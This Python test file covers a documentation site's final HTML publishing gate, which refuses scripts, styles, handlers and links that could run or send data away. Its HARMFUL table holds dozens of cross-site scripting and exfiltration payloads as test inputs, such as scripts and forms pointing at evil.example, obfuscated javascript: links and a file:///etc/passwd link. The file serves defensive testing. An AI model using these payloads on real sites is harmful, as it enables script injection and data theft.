"""The last gate over built pages: what a browser might run, load or send away is not published, whoever wrote it."""

from __future__ import annotations

from importlib.util import find_spec
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jinja2 import Environment
from mkdocs.plugins import BasePlugin, PluginCollection, event_priority
from mkdocs.structure.files import Files

from wa_build.publish.harmless import Gate
from wa_build.publish.inline import Inline, icon_styles, inline_in, inline_of
from wa_build.publish.last import Publisher, gate_of
from wa_build.publish.plugin import WellArchitectedPlugin
from wa_build.publish.policy import beginning_of, hashes_of, policy_of, with_policy
from wa_build.publish.tags import Tag, tags_of

GATE = Gate(
    Inline(frozenset({"ours()"}), frozenset({"a{b:c}"})), "https://example.org/wa/", frozenset({"wiki.acme.example"})
)

HARMFUL = {
    "a script of another": "<script>theirs()</script>",
    "a script of another in capitals": "<SCRIPT>theirs()</SCRIPT >",
    "a script of a type that runs": '<script type="module">theirs()</script>',
    "ours with a word more": "<script>ours() </script>",
    "a script without an end": "<script>ours()",
    "a file and a text": '<script src="a.js">theirs()</script>',
    "a script from elsewhere": '<script src="https://evil.example/a.js"></script>',
    "a script from elsewhere without a scheme": '<script src="//evil.example/a.js"></script>',
    "a script from elsewhere with backslashes": '<script src="\\\\evil.example/a.js"></script>',
    "a script as data": '<script src="data:text/javascript,alert(1)"></script>',
    "data that may end": '<script type="application/json">{"a": "<!--<script>"}</script>',
    "a style sheet of another": "<style>body{display:none}</style>",
    "an inline style": '<p style="position:fixed">',
    "an inline style of another word": '<td style="text-align: right; color: red;">',
    "a handler": '<p onclick="theirs()">',
    "a handler in capitals": "<p ONMOUSEOVER=theirs()>",
    "a handler of a picture": '<img src="x.png" onerror="theirs()">',
    "a handler behind a slash": '<img/src="x.png"/onerror="theirs()">',
    "a handler without a space": '<img src="x.png"onerror="theirs()">',
    "a link that runs": '<a href="javascript:theirs()">',
    "a link that runs in capitals": '<a href="JaVaScRiPt:theirs()">',
    "a link that runs, with entities": '<a href="&#106;avascript&colon;theirs()">',
    "a link that runs, with a tab": '<a href="java\tscript:theirs()">',
    "a link that runs, with an entity of a line": '<a href="java&NewLine;script:theirs()">',
    "a link that runs, after spaces": '<a href=" \x01 javascript:theirs()">',
    "a link that runs, without quotes": "<a href=javascript:theirs()>",
    "a link to data": '<a href="data:text/html,x">',
    "a link of VBScript": '<a href="vbscript:x">',
    "a link to a file of the reader": '<a href="file:///etc/passwd">',
    "a link to a blob": '<a href="blob:https://example.org/x">',
    "a link without encryption": '<a href="http://evil.example/">',
    "a link without a scheme": '<a href="//evil.example/">',
    "an address that is none": '<a href="http://[x/">',
    "a picture from elsewhere": '<img src="https://evil.example/x.png">',
    "a picture from elsewhere, in a set": '<img srcset="a.png 1x, https://evil.example/x.png 2x">',
    "a picture as data": '<img src="data:image/svg+xml,x">',
    "a form that sends": '<form action="https://evil.example/">',
    "a button that sends": '<button formaction="https://evil.example/">',
    "a link that tells": '<a href="a/" ping="https://evil.example/">',
    "a style sheet from elsewhere": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "a style sheet and a name": '<link rel="stylesheet canonical" href="https://evil.example/a.css">',
    "a connection to elsewhere": '<link rel="preconnect" href="https://evil.example/">',
    "a link without a word": '<link href="https://evil.example/">',
    "a link that runs, after a tab and a space": '<a href="\t javascript:theirs()">',
    "a link from elsewhere, after a line and a control": '<img src="\n\x01//evil.example/x.png">',
    "a link that runs, behind a space that is none": '<a title=x\xa0href=a/ href="javascript:theirs()">',
    "a link that runs, behind a vertical tab": '<a title=x\x0bhref=a/ href="javascript:theirs()">',
    "a background behind a name of another K": '<p bac\u212aground="" background="https://evil.example/x.png">',
    "a script of another S, and what it hides": '<\u017fcript type="application/json"></\u017fcript>theirs<p onclick=x>',
    "a script that another S ends": "<script>ours()</\u017fcript><p>x</p>",
    "a script that a vertical tab ends": "<script>ours()</script\x0b>",
    "a picture's picture with a word of a link": '<svg><image rel="help" href="https://evil.example/x.png"/></svg>',
    "a picture's fill from elsewhere": '<svg><path fill="url(https://evil.example/x.svg#a)"/></svg>',
    "a picture's mask of a set": "<svg><path mask=\"image-set('https://evil.example/x.png' 1x)\"/></svg>",
    "a picture's cursor from elsewhere": '<svg><g cursor="URL( //evil.example/x.cur ), auto"/></svg>',
    "a click that is told elsewhere": '<a href="https://a.example/" attributionsrc="https://evil.example/">',
    "another encoding": '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">',
    "another base": '<base href="/">',
    "a frame": '<iframe src="a/"></iframe>',
    "a document in a frame": '<iframe srcdoc="x"></iframe>',
    "an object": '<object data="a.pdf"></object>',
    "a plug-in": '<embed src="a.pdf">',
    "a picture's script": "<svg><script>theirs()</script></svg>",
    "a picture's link that runs": '<svg><a xlink:href="javascript:theirs()"></a></svg>',
    "a picture's part from elsewhere": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "a picture's page": "<svg><foreignObject></foreignObject></svg>",
    "a picture that changes a link": '<svg><animate attributeName="href" to="javascript:x"/></svg>',
    "a page that leads away": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "a page that leads away without a scheme": '<meta http-equiv="refresh" content="0; url=//evil.example/">',
    "a page that runs": "<meta http-equiv=Refresh content='0; url=javascript:theirs()'>",
    "a page that leads away with quotes": '<meta http-equiv="refresh" content="0; url=\'https://evil.example/\'">',
    "a page with a policy of its own": '<meta http-equiv="Content-Security-Policy" content="x">',
    "a cookie": '<meta http-equiv="set-cookie" content="a=b">',
    "another tongue": "<math><mtext>x</mtext></math>",
    "a text to its end": "<plaintext>",
    "a section of characters": "<![CDATA[ x ]]>",
    "an instruction": "<?xml version='1.0'?>",
    "a comment that ends early": "<!--> <p onclick=x> -->",
    "a comment with a tag": "<!-- <p> -->",
    "a value with a tag": '<p title="<b>">',
    "a value without an end": '<p title="x>',
    "a tag without an end": "<p class",
}

HARMLESS = {
    "ours": "<script>ours()</script><style>a{b:c}</style>",
    "files": '<script src="../a.js" type="module"></script><link rel="stylesheet" href="a.css"><img src="/wa/x.png">',
    "data": '<script id="c" type="application/json">{"a": "\\u003cb"}</script>',
    "links": '<a href="https://docs.aws.amazon.com/">a</a><a href="mailto:a@example.org">b</a><a href="../#x:y">c</a>',
    "a link to a host of the configuration": '<a href="http://wiki.acme.example/x">',
    "the site's own address": '<form action="https://example.org/wa/practices/"><link rel="preload" href="https://example.org/a">',
    "names of other addresses": '<link rel="canonical" href="https://example.com/"><link rel="next" href="../b/">',
    "an empty icon": '<link rel="icon" href="data:,">',
    "a table": '<td style="text-align: right;"><th style="text-align: left;">',
    "a page that leads on": '<meta http-equiv="refresh" content="0; url=../security/sec01/">',
    "a picture": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M1 2z"/></svg>',
    "a picture's fill": '<svg><path fill="url(#a)" mask="none" cursor="pointer"/></svg>',
    "a number to call": '<a href="tel:+4930123">a</a><a href="sms:+4930123">b</a>',
    "the encoding and the language again": "<meta http-equiv='Content-Type' content='text/html; charset=utf-8'>"
    "<meta http-equiv='Content-Language' content='de'>",
    "spaces of other kinds": '<p title="a\xa0b" data-x=a\u3000b>',
    "words": "<!doctype html><!-- a remark --><p title='a > b' hidden>1 < 2, a<b> & c</b></p><br/>",
    "elements of ours": '<wa-practice-answer practice="SEC01-BP01"></wa-practice-answer>',
}


def faults(page: str) -> list[str]:
    return [fault for tag in tags_of(page) for fault in GATE.faults_of(tag)]


@pytest.mark.parametrize("name", HARMFUL)
def test_what_could_do_harm_is_refused(name: str) -> None:
    assert faults(HARMFUL[name]) != []


@pytest.mark.parametrize("name", HARMLESS)
def test_what_a_page_needs_is_let_pass(name: str) -> None:
    assert faults(HARMLESS[name]) == []


@given(
    st.lists(st.sampled_from([*HARMLESS.values(), "text", "\n"]), max_size=6), st.sampled_from(list(HARMFUL.values()))
)
def test_what_could_do_harm_is_found_wherever_it_stands(before: list[str], harmful: str) -> None:
    assert faults("".join(before) + harmful) != []


def test_the_policy_names_what_is_on_the_list_and_not_what_is_found() -> None:
    found = inline_in(tags_of('<script>theirs()</script><script>ours()</script><p style="color: red">'))
    ours = Inline(frozenset({"ours()"}), attributes=frozenset())
    assert policy_of(hashes_of(GATE.inline & found)) == policy_of(hashes_of(ours))


def test_the_list_is_what_the_templates_hold_with_each_way_to_the_root() -> None:
    templates = [
        "<script>a()</script><style>b{}</style>",
        '<script>new URL("{{ config.extra.scope | d(base_url) }}")</script>',
        "<script>base={{ root | tojson }}</script>",
        "<script>say({{ page.title }})</script><style>{{ own }}</style><script src='x.js'></script>",
    ]
    assert inline_of(templates, ["..", "/wa/"]) == Inline(
        frozenset({"a()", 'new URL("..")', 'new URL("/wa/")', 'base="../"', 'base="/wa/"'}), frozenset({"b{}"})
    )


THEME = Path(str(find_spec("material").origin)).parent / "templates"  # type: ignore[union-attr]


def test_the_list_has_the_styles_of_icons_that_the_configuration_chooses_and_no_other() -> None:
    chosen = {
        "edit": "material/pencil",
        "admonition": {"note": "octicons/tag-16", "our-own": "material/eye"},
        "annotation": "material/plus-circle",
        "tag": {"default": "material/tag", "x": "material/eye"},
    }
    assert len(icon_styles(chosen, THEME)) == 3
    assert icon_styles({"admonition": {"a}</style><script>theirs()</script>": "material/eye"}}, THEME) == frozenset()
    assert icon_styles({"annotation": "material/no-such-icon"}, THEME) == frozenset()
    assert icon_styles({}, THEME) == frozenset()


def test_hosts_without_encryption_are_those_that_the_configuration_writes_whatever_their_letters() -> None:
    words = [{"copyright": "<a href='http://wiki.m\u00fcller.example:8080/x'>Legal</a>"}]
    gate = gate_of([], Publisher("material", words=words))
    assert gate.faults_of(Tag("a", (("href", "http://wiki.m\u00fcller.example:8080/x"),))) == ()
    assert gate.faults_of(Tag("a", (("href", "http://wiki.m\u00fcller.example.evil/x"),))) != ()


@pytest.mark.parametrize(
    "page",
    [
        '<!doctype html>\n<html lang="en" class="no-js">\n  <head>\n    \n<meta charset="utf-8">',
        "<!DOCTYPE HTML><HTML><HEAD><META CHARSET='UTF-8' />",
        "\ufeff<!doctype html><html><head><meta charset=utf-8>",
    ],
)
def test_the_policy_stands_right_after_the_encoding(page: str) -> None:
    assert with_policy(f"{page}<title>x</title>", "default-src 'self'") == (
        f'{page}\n<meta http-equiv="Content-Security-Policy" content="default-src \'self\'"><title>x</title>'
    )


@pytest.mark.parametrize(
    "page",
    [
        "",
        "<meta charset='utf-8'><script>x</script>",
        "<!doctype html><html><head><title>x</title><meta charset='utf-8'>",
        "<!doctype html><html><head><script>x</script><meta charset='utf-8'>",
        "<!doctype html>text<html><head><meta charset='utf-8'>",
        "<!doctype html><html><body><meta charset='utf-8'>",
        "<!doctype html><html><head><meta charset='iso-8859-1'>",
        "<!doctype html>\xa0<html><head><meta charset='utf-8'>",
        "<!doctype html><html>\x0b<head><meta charset='utf-8'>",
        "<!doctype html><html-x><head><meta charset='utf-8'>",
        "<!doctype html><html><head-x><meta charset='utf-8'>",
        "<!doctype html><html><head><meta char\u017fet='utf-8'>",
    ],
)
def test_a_page_that_could_not_carry_a_policy_is_seen(page: str) -> None:
    assert beginning_of(page) is None
    with pytest.raises(ValueError, match="does not begin"):
        with_policy(page, "x")


def test_no_plugin_and_no_hook_comes_after_the_last_look() -> None:
    plugins = PluginCollection()
    ours = plugins["well-architected"] = WellArchitectedPlugin()
    plugins["late"] = Late()
    assert plugins.events["post_build"][-1] != ours.on_post_build
    plugins.on_env(Environment(autoescape=True), config=SimpleNamespace(plugins=plugins), files=Files([]))
    assert plugins.events["post_build"][-1] == ours.on_post_build
    assert len(plugins.events["post_build"]) == 2


class Late(BasePlugin):  # type: ignore[type-arg]
    """A plugin that wants to be the last."""

    @event_priority(-1000)
    def on_post_build(self, **_: object) -> None:
        """Do nothing."""
